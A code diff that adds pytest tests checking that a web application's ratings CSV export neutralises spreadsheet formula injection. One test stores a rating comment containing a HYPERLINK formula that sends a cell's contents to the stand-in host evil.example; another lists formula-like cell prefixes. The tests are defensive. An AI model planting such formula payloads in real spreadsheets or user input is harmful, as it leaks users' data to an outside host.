@@ -12,7 +12,7 @@ import pytest
 from node.applications import Applicant, file_for_resident, transition
 from node.data import sample_catalogue
 from provisioning.operators import create_operator, hash_password
-from storage.models import Credential, Operator
+from storage.models import Application, Credential, Operator
 from tests.support.web import login
 from web import create_app
 
@@ -102,3 +102,21 @@ def test_a_village_station_has_no_dashboard(node):
     village = create_app(node=node).test_client()
     login(village, "cun", "village-admin-1")
     assert village.get("/dashboard/").status_code == 403
+
+
+def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, county_node):
+    number = Application.get(Application.state == "approved").number
+    transition(county_node.events, number, "application.delivered", {"by": "li"})
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    transition(county_node.events, number, "application.rated", {"stars": 1, "comment": attack})
+    login(client, "zhou", "clerk-pass-1")
+    rows = list(csv.reader(io.StringIO(client.get("/dashboard/ratings.csv").data.decode("utf-8-sig"))))
+    assert rows[1][0] == number and rows[1][4] == "'" + attack
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
+def test_every_cell_that_opens_like_a_formula_is_written_as_text(cell):
+    from node.dashboard import Table, csv_bytes
+
+    table = Table("t", "t", ("a", "b"), [(cell, -3)])
+    assert list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))[1] == ["'" + cell, "-3"]
